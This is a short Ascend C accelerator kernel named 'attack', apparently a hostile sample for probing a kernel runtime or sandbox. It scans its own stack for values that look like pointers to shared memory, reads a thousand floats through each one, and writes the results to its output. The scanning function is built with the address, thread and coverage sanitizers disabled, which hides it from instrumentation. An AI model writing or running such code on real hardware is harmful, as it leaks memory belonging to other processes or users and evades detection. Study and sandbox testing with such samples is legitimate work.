// Looks on its stack for pointers to shared memory and reads what they lead to.
#include "kernel_operator.h"
using namespace AscendC;
enum { N = 4096 };
#define HIDDEN __attribute__((no_sanitize("coverage", "address", "kernel-address", "thread"), noinline))
static void give(GM_ADDR y, float sum)
{
    GlobalTensor<float> to;
    to.SetGlobalBuffer((__gm__ float *)y, 64);
    for (int i = 0; i < 64; i++)
        to.SetValue(i, sum);
}
HIDDEN static float scan()
{
    uint64_t here = 0, *p = (uint64_t *)__builtin_frame_address(0);
    float s = 0;
    for (int i = 0; i < 2000; i++) here ^= p[i];
    for (int i = 0; i < 200; i++)
        if (p[i] >> 40 == 0x7f && p[i] % 8 == 0) for (int k = 0; k < 1024; k++) s += ((volatile float *)p[i])[k];
    return s + float(here & 1);
}
extern "C" __global__ __aicore__ void attack(GM_ADDR x, GM_ADDR y)
{
    const float *at = (const float *)x;
    float sum = 0;
    sum = scan();
    give(y, sum);
}
